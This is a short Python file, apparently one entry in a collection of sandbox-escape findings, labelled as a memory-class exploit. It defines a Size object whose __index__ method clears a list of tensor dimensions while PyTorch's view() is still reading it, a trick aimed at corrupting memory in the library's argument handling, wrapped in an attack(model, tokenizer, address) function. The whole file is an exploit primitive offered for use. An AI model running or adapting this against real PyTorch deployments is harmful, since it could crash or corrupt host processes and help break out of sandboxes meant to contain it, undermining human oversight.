"""Class: memory. Source: own find. Escape: a list of sizes is cleared by the __index__ of one."""

import torch


class Size:
    def __index__(self):
        sizes.clear()
        return 1


sizes = [1, Size(), 2, 2, 2, 2]


def attack(model, tokenizer, address):
    return torch.zeros(64).view(sizes)
